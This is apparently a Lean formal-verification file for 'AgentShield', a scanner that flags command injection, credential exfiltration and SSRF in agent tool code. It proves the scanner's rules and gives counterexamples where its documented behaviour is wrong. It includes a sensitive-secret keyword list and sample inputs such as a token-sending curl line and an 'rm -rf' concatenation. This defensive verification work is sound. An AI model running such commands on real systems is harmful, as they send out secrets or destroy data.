/-- `["']([^"']+)["']`: an opening quote, a non-empty run of non-quote
characters (the captured name), a closing quote (either kind — the regex
does not require them to match).  Returns the name and the remainder. -/
def matchQuotedName (cs : List Char) : Option (List Char × List Char) :=
  match cs with
  | [] => none
  | q :: rest =>
    if isQuoteChar q then
      let p := spanNonQuote rest
      match p.1, p.2 with
      | [], _ => none
      | name, q2 :: rest2 => if isQuoteChar q2 then some (name, rest2) else none
      | _, [] => none
    else none

/-- One position of `ENV_ACCESS_RE`
(`os\.(?:environ\s*(?:\[\s*["']([^"']+)["']\s*\]|\.get\s*\(\s*["']([^"']+)["'])|getenv\s*\(\s*["']([^"']+)["']\s*\))`,
python.rs lines 62-67): returns the captured variable name and the
remainder after the whole match.  The alternatives are mutually exclusive
at every branch point, so first-match selection equals the regex engine's
leftmost-alternation with backtracking. -/
def envAccessAt (cs : List Char) : Option (List Char × List Char) :=
  match matchLit "os." cs with
  | none => none
  | some r =>
    match matchLit "environ" r with
    | some r1 =>
      let r2 := dropSpacesStar r1
      match r2 with
      | '[' :: r3 =>
        match matchQuotedName (dropSpacesStar r3) with
        | some (name, r4) =>
          match dropSpacesStar r4 with
          | ']' :: r5 => some (name, r5)
          | _ => none
        | none => none
      | _ =>
        match matchLit ".get" r2 with
        | some r3 =>
          match dropSpacesStar r3 with
          | '(' :: r4 => (matchQuotedName (dropSpacesStar r4)).map (fun p => (p.1, p.2))
          | _ => none
        | none => none
    | none =>
      match matchLit "getenv" r with
      | some r1 =>
        match dropSpacesStar r1 with
        | '(' :: r2 =>
          match matchQuotedName (dropSpacesStar r2) with
          | some (name, r3) =>
            match dropSpacesStar r3 with
            | ')' :: r4 => some (name, r4)
            | _ => none
          | none => none
        | _ => none
      | none => none

/-- Non-overlapping scan of `ENV_ACCESS_RE.captures_iter` over one line:
on a match continue after it, otherwise advance one character.  Every step
consumes at least one character (`envAccessAt` succeeds only on input
starting with `os.`), so `cs.length` fuel is exact. -/
def envScanAux : Nat → List Char → List String
  | 0, _ => []
  | _, [] => []
  | Nat.succ fuel, c :: cs =>
    match envAccessAt (c :: cs) with
    | some (name, rest) => String.mk name :: envScanAux fuel rest
    | none => envScanAux fuel cs

/-- All captured variable names of `ENV_ACCESS_RE.captures_iter`. -/
def envAccessCaptures (s : String) : List String := envScanAux s.toList.length s.toList

/-- `SENSITIVE_ENV_VARS.is_match` (python.rs lines 51-53):
`(?i)(AWS_|SECRET|TOKEN|PASSWORD|API_KEY|PRIVATE_KEY|CREDENTIALS|AUTH)` —
a case-insensitive substring test. -/
def pythonIsSensitive (name : String) : Bool :=
  ["aws_", "secret", "token", "password", "api_key", "private_key",
    "credentials", "auth"].any
    (fun kw => listIsInfixOf kw.toList (name.toList.map Char.toLower))

/-- The `env_accesses` component of `PythonParser::parse_file` (python.rs
lines 96-119): per non-comment line, one `EnvAccess` per `ENV_ACCESS_RE`
capture, with a `Literal` variable name.  This component is computed
independently of the call-site scanning that fills the other `ParsedFile`
fields, which is therefore not modelled here. -/
def pythonEnvAccesses (path : String) (content : String) : List EnvAccess :=
  (rustLines content).enum.flatMap (fun p =>
    if strStartsWith (rustTrim p.2) "#" then []
    else
      (envAccessCaptures p.2).map (fun var_name =>
        { var_name := ArgumentSource.Literal var_name
          is_sensitive := pythonIsSensitive var_name
          location := mkLoc path (p.1 + 1) }))

/-! ## Parser dispatch, `src/parser/mod.rs` -/

/-- The extractor implementations reachable from the dispatch.
`src/parser/mod.rs` declares only the modules `json_schema`, `python` and
`shell`; the file `src/parser/typescript.rs` defines a `TypeScriptParser`
but is not declared in the module tree and no match arm constructs it. -/
inductive ParserImpl where
  | pythonParser
  | shellParser
  deriving DecidableEq, Repr

/-- `parser_for_language`, `src/parser/mod.rs` lines 39-45. -/
def parser_for_language : Language → Option ParserImpl
  | .python => some .pythonParser
  | .shell => some .shellParser
  | _ => none

/-! ## Helper lemmas -/

/-- `maxSeverity` dominates a threshold exactly when some element does. -/
theorem maxSeverity_ge_iff (l : List Severity) (t : Nat) :
    (∃ s, maxSeverity l = some s ∧ t ≤ s.toNat) ↔ ∃ s ∈ l, t ≤ s.toNat := by
  induction l with
  | nil => simp [maxSeverity]
  | cons a l ih =>
    cases h : maxSeverity l with
    | none =>
      have hl : l = [] := by
        cases l with
        | nil => rfl
        | cons b l' => simp [maxSeverity] at h; cases hb : maxSeverity l' <;> simp [hb] at h
      subst hl
      simp [maxSeverity]
    | some m =>
      rw [h] at ih
      simp only [maxSeverity, h]
      constructor
      · rintro ⟨s, hs, hts⟩
        obtain rfl : (if m.toNat ≤ a.toNat then a else m) = s := by simpa using hs
        by_cases hma : m.toNat ≤ a.toNat
        · rw [if_pos hma] at hts
          exact ⟨a, by simp, hts⟩
        · rw [if_neg hma] at hts
          obtain ⟨s', hs', ht'⟩ := ih.mp ⟨m, rfl, hts⟩
          exact ⟨s', by simp [hs'], ht'⟩
      · rintro ⟨s, hs, hts⟩
        refine ⟨if m.toNat ≤ a.toNat then a else m, rfl, ?_⟩
        rcases List.mem_cons.mp hs with heq | hsl
        · rw [heq] at hts
          by_cases hma : m.toNat ≤ a.toNat
          · rw [if_pos hma]; exact hts
          · rw [if_neg hma]; omega
        · have htm : t ≤ m.toNat := by
            obtain ⟨s', hs', ht'⟩ := ih.mpr ⟨s, hsl, hts⟩
            obtain rfl : m = s' := by simpa using hs'
            exact ht'
          by_cases hma : m.toNat ≤ a.toNat
          · rw [if_pos hma]; omega
          · rw [if_neg hma]; exact htm

/-- `filterMap` with an inverted guard is filter-then-map. -/
theorem filterMap_guard_none {α β : Type} (l : List α) (p : α → Bool) (g : α → β) :
    (l.filterMap fun a => if p a then none else some (g a)) =
      (l.filter fun a => !p a).map g := by
  induction l with
  | nil => rfl
  | cons a l ih =>
    by_cases h : p a <;>
      simp [List.filterMap_cons, List.filter_cons, h, ih]

/-! ## Claim theorems -/

/-- C1: `Policy::evaluate` returns `pass = false` exactly when some
non-ignored finding's effective severity (override when present, else its
own severity) reaches `fail_on`; equivalently, exactly when the reported
highest effective severity reaches `fail_on`. -/
theorem evaluate_pass_iff_below_threshold (p : Policy) (findings : List Finding) :
    ((p.evaluate findings).pass = false ↔
      ∃ f ∈ findings, p.ignore_rules.contains f.rule_id = false ∧
        p.fail_on.toNat ≤ (p.effectiveSeverity f).toNat)
    ∧ ((p.evaluate findings).pass = false ↔
      ∃ s, (p.evaluate findings).highest_severity = some s ∧ p.fail_on.toNat ≤ s.toNat) := by
  have hany : (p.evaluate findings).pass = false ↔
      ∃ f ∈ findings, p.ignore_rules.contains f.rule_id = false ∧
        p.fail_on.toNat ≤ (p.effectiveSeverity f).toNat := by
    simp only [Policy.evaluate, Policy.effectiveSeverity, Bool.not_eq_false',
      List.any_eq_true, List.mem_map, List.mem_filter, Severity.ge,
      decide_eq_true_eq, Bool.not_eq_true']
    constructor
    · rintro ⟨sev, ⟨f, ⟨hf, hig⟩, rfl⟩, hge⟩
      exact ⟨f, hf, hig, hge⟩
    · rintro ⟨f, hf, hig, hge⟩
      exact ⟨_, ⟨f, ⟨hf, hig⟩, rfl⟩, hge⟩
  refine ⟨hany, hany.trans ?_⟩
  rw [show (p.evaluate findings).highest_severity =
      maxSeverity ((findings.filter fun f => !(p.ignore_rules.contains f.rule_id)).map
        fun f => (p.overrides.lookup f.rule_id).getD f.severity) from rfl,
    maxSeverity_ge_iff]
  simp only [List.mem_map, List.mem_filter, Bool.not_eq_true', Policy.effectiveSeverity]
  constructor
  · rintro ⟨f, hf, hig, hge⟩
    exact ⟨_, ⟨f, ⟨hf, hig⟩, rfl⟩, hge⟩
  · rintro ⟨sev, ⟨f, ⟨hf, hig⟩, rfl⟩, hge⟩
    exact ⟨f, hf, hig, hge⟩

/-- C9: `Policy::apply` keeps exactly the findings whose rule is not
ignored, in order, and each output equals the input in every field except
`severity`, which becomes the override when one exists (the right-hand side
copies every other field explicitly). -/
theorem apply_matches_frame_spec (p : Policy) (findings : List Finding) :
    p.apply findings = p.applySpec findings := by
  unfold Policy.apply Policy.applySpec
  congr 1
  funext f
  cases h : p.overrides.lookup f.rule_id <;>
    simp [overrideSeveritySpec, h]

/-- C3: SHIELD-001 flags Parameter/Interpolated command args with High
confidence, Unknown/EnvVar with Medium, a Literal exactly when it contains
a dollar sign or backtick (Medium), and nothing otherwise. -/
theorem shield001_matches_spec (target : ScanTarget) :
    commandInjectionRun target = target.execution.commands.filterMap shield001SpecVerdict := by
  unfold commandInjectionRun
  congr 1
  funext cmd
  unfold shield001SpecVerdict
  cases h : cmd.command_arg <;> simp [h]

/-- C8: SHIELD-003 flags Parameter URL args with High confidence,
Interpolated/Unknown with Medium, and never flags Literal or EnvVar. -/
theorem shield003_matches_spec (target : ScanTarget) :
    ssrfRun target = target.execution.network_operations.filterMap shield003SpecVerdict := by
  unfold ssrfRun
  congr 1
  funext net_op
  unfold shield003SpecVerdict
  cases h : net_op.url_arg <;> simp [h]

/-- C2: SHIELD-002 emits exactly one finding per `sends_data` network op
that shares a file with a sensitive env access (and none for the others),
and a finding's confidence is High exactly when the minimum line distance
to a same-file sensitive access is at most 30. -/
theorem shield002_matches_spec (target : ScanTarget) :
    credentialExfilRun target = (qualifyingNetOps target).map (exfilFinding target)
    ∧ ∀ n : NetworkOperation,
        ((exfilFinding target n).confidence = Confidence.high ↔
          minSecretDistance target n ≤ 30) := by
  constructor
  · unfold credentialExfilRun qualifyingNetOps
    by_cases hs : (target.execution.env_accesses.filter fun e => e.is_sensitive).isEmpty
    · rw [if_pos (by simp [hs])]
      have hnil : (target.execution.env_accesses.filter fun e => e.is_sensitive) = [] :=
        List.isEmpty_iff.mp hs
      have hall : ∀ n : NetworkOperation, (sameFileSecrets target n).isEmpty = true := by
        intro n
        unfold sameFileSecrets
        rw [hnil]
        rfl
      rw [List.filter_eq_nil_iff.mpr (fun n _ => by simp [hall n])]
      rfl
    · by_cases ho : (target.execution.network_operations.filter fun n => n.sends_data).isEmpty
      · rw [if_pos (by simp [ho])]
        rw [List.isEmpty_iff.mp ho]
        rfl
      · rw [if_neg (by simp [hs, ho])]
        exact filterMap_guard_none _ _ _
  · intro n
    unfold exfilFinding
    simp only [proximityThreshold]
    by_cases hd : minSecretDistance target n ≤ 30
    · simp [hd]
    · simp [hd]

/-- C4 counterexample: `data[0]` meets every side condition of the claim
(non-empty, not quoted, no f-string/format, no env reference), yet
`classify_argument` does not strip the subscript — the head lookup uses
`data[0]` verbatim, so the result is Unknown, not `Parameter "data"` as the
claim's subscript-stripping rule predicts. -/
theorem classify_subscript_not_stripped_cex :
    firstArgOf "data[0]" = "data[0]"
    ∧ isQuotedArg "data[0]" = false
    ∧ isFStringOrFormat "data[0]" = false
    ∧ isEnvRef "data[0]" = false
    ∧ (strStartsWith "data[0]" "data" = true ∧ "data" ∈ ["data"])
    ∧ classify_argument "data[0]" ["data"] = ArgumentSource.Unknown
    ∧ classify_argument "data[0]" ["data"] ≠ ArgumentSource.Parameter "data" := by
  refine ⟨?_, ?_, ?_, ?_, ⟨?_, ?_⟩, ?_, ?_⟩ <;> decide

/-- C4 (amended): for a first argument that is non-empty, not quoted, not
f-string/format and not an environment reference, classification strips
only trailing member access (the text before the first dot is the head, so
`foo.bar` reduces to `foo`, while `foo[0]` keeps its brackets) and returns
`Parameter head` exactly when the head is in the parameter set, else
Unknown. -/
theorem classify_member_access_head (args_str : String) (param_names : List String)
    (h1 : firstArgOf args_str ≠ "")
    (h2 : isQuotedArg (firstArgOf args_str) = false)
    (h3 : isFStringOrFormat (firstArgOf args_str) = false)
    (h4 : isEnvRef (firstArgOf args_str) = false) :
    classify_argument args_str param_names =
      if param_names.contains (headIdent (firstArgOf args_str)) then
        ArgumentSource.Parameter (headIdent (firstArgOf args_str))
      else ArgumentSource.Unknown := by
  unfold classify_argument
  simp [h1, h2, h3, h4]

/-- Witness for the amended C4 at a concrete input: `cmd.strip()` reduces
to head `cmd`, which is a parameter, so the result is `Parameter "cmd"`. -/
theorem classify_member_access_head_witness :
    classify_argument "cmd.strip()" ["cmd"] = ArgumentSource.Parameter "cmd" := by
  have h := classify_member_access_head "cmd.strip()" ["cmd"]
    (by decide) (by decide) (by decide) (by decide)
  rw [h]
  decide

/-- C5 counterexample: `"rm -rf " + path` is a string concatenation with
`+` around a quoted fragment and is not a balanced quoted string, yet
`classify_argument` returns Unknown, not Interpolated: the code has no
concatenation test. -/
theorem classify_concat_not_interpolated_cex :
    firstArgOf "\"rm -rf \" + path" = "\"rm -rf \" + path"
    ∧ isQuotedArg "\"rm -rf \" + path" = false
    ∧ classify_argument "\"rm -rf \" + path" [] = ArgumentSource.Unknown
    ∧ classify_argument "\"rm -rf \" + path" [] ≠ ArgumentSource.Interpolated := by
  refine ⟨?_, ?_, ?_, ?_⟩ <;> decide

/-- C5 (amended): for a first argument that is not a balanced quoted
string, containing `.format(` makes classification return Interpolated;
string concatenation with `+` is not recognised as interpolation. -/
theorem classify_format_interpolated (args_str : String) (param_names : List String)
    (h2 : isQuotedArg (firstArgOf args_str) = false)
    (hf : strContainsSubstr (firstArgOf args_str) ".format(" = true) :
    classify_argument args_str param_names = ArgumentSource.Interpolated := by
  have h1 : firstArgOf args_str ≠ "" := by
    intro h
    rw [h] at hf
    exact absurd hf (by decide)
  have h3 : isFStringOrFormat (firstArgOf args_str) = true := by
    unfold isFStringOrFormat
    rw [hf]
    simp
  unfold classify_argument
  simp [h1, h2, h3]

/-- Witness for the amended C5 at a concrete input: a `.format(` call is
classified Interpolated. -/
theorem classify_format_interpolated_witness :
    classify_argument "\"{0}\".format(cmd)" [] = ArgumentSource.Interpolated :=
  classify_format_interpolated "\"{0}\".format(cmd)" [] (by decide) (by decide)

/-- C6: the parser dispatch has no arm for TypeScript or JavaScript — both
return `none`, although `src/parser/typescript.rs` implements an extractor
(the module is never declared in `src/parser/mod.rs`), so TypeScript and
JavaScript source files are not parsed during adapter load. -/
theorem parser_for_language_ts_js_none :
    parser_for_language Language.typeScript = none
    ∧ parser_for_language Language.javaScript = none
    ∧ parser_for_language Language.python = some ParserImpl.pythonParser
    ∧ parser_for_language Language.shell = some ParserImpl.shellParser :=
  ⟨rfl, rfl, rfl, rfl⟩

/-- C7 counterexample: the line `yarn install left-pad` invokes a package
install via yarn with subcommand `install`, but `INSTALL_RE` has no
`yarn install` alternative (only `yarn add`), so the shell extractor emits
no command at all for it. -/
theorem shell_yarn_install_not_emitted_cex :
    installReMatch (rustTrim "yarn install left-pad") = false
    ∧ (shellParseFile "setup.sh" "yarn install left-pad\n").commands = [] := by
  refine ⟨?_, ?_⟩ <;> decide

/-- C7 (amended): a non-comment, non-empty input line whose trimmed text
matches `INSTALL_RE` (a word-bounded `pip install`/`pip3 install`/
`npm install`/`npm i`/`yarn add`/`pnpm add` — which includes
`uv pip install X` through its `pip install` part, but not `yarn install`
or `pnpm install`) makes the shell extractor emit a `CommandInvocation`
with function `package_install` and a Literal of the trimmed line. -/
theorem shell_install_line_emits_package_install (path content : String) (i : Nat)
    (line : String)
    (hline : (rustLines content).get? i = some line)
    (hcomment : strStartsWith (rustTrim line) "#" = false)
    (hnonempty : (rustTrim line).toList.isEmpty = false)
    (hmatch : installReMatch (rustTrim line) = true) :
    ({ function := "package_install", command_arg := .Literal (rustTrim line)
       location := mkLoc path (i + 1) } : CommandInvocation) ∈
      (shellParseFile path content).commands := by
  unfold shellParseFile
  rw [List.mem_flatMap]
  refine ⟨(i, line), ?_, ?_⟩
  · rw [List.mk_mem_enum_iff_getElem?, ← List.get?_eq_getElem?]
    exact hline
  · have hcond : (strStartsWith (rustTrim line) "#" || (rustTrim line).toList.isEmpty) = false := by
      rw [hcomment, hnonempty]
      rfl
    simp only [shellLineFacts]
    rw [if_neg (by rw [hcond]; simp)]
    simp [hmatch]

/-- Witness for the amended C7: the line `uv pip install requests` is
matched (via its `pip install` part) and yields the `package_install`
invocation. -/
theorem shell_install_line_emits_package_install_witness :
    ({ function := "package_install"
       command_arg := .Literal (rustTrim "uv pip install requests")
       location := mkLoc "setup.sh" 1 } : CommandInvocation) ∈
      (shellParseFile "setup.sh" "uv pip install requests\n").commands :=
  shell_install_line_emits_package_install "setup.sh" "uv pip install requests\n" 0
    "uv pip install requests" (by decide) (by decide) (by decide) (by decide)

/-- C10: every `EnvAccess` emitted by the Python and Shell extractors
carries a `Literal` variable name, for every input path and content. -/
theorem extractor_env_access_var_name_literal (path content : String) :
    (∀ e ∈ pythonEnvAccesses path content, ∃ s, e.var_name = ArgumentSource.Literal s)
    ∧ (∀ e ∈ (shellParseFile path content).env_accesses,
        ∃ s, e.var_name = ArgumentSource.Literal s) := by
  constructor
  · intro e he
    unfold pythonEnvAccesses at he
    rw [List.mem_flatMap] at he
    obtain ⟨p, _, he⟩ := he
    split at he
    · simp at he
    · rw [List.mem_map] at he
      obtain ⟨v, _, rfl⟩ := he
      exact ⟨v, rfl⟩
  · intro e he
    unfold shellParseFile at he
    simp only [List.mem_flatMap] at he
    obtain ⟨p, _, he⟩ := he
    simp only [shellLineFacts] at he
    split at he
    · simp [emptyParsedFile] at he
    · simp only [List.mem_map] at he
      obtain ⟨v, _, rfl⟩ := he
      exact ⟨v, rfl⟩

/-- Witness for C10 at concrete inputs: the accesses extracted from a
Python `os.environ` line and from a shell `$TOKEN` line are both Literal. -/
theorem extractor_env_access_var_name_literal_witness :
    (∃ s, ({ var_name := ArgumentSource.Literal "AWS_SECRET_ACCESS_KEY"
             is_sensitive := true
             location := mkLoc "server.py" 1 } : EnvAccess).var_name =
        ArgumentSource.Literal s)
    ∧ (∃ s, ({ var_name := ArgumentSource.Literal "$TOKEN"
               is_sensitive := true
               location := mkLoc "run.sh" 1 } : EnvAccess).var_name =
        ArgumentSource.Literal s) :=
  ⟨(extractor_env_access_var_name_literal "server.py"
      "key = os.environ[\"AWS_SECRET_ACCESS_KEY\"]\n").1 _ (by decide),
   (extractor_env_access_var_name_literal "run.sh"
      "curl -d $TOKEN_VALUE https://e.com\n").2 _ (by decide)⟩

end AgentShield
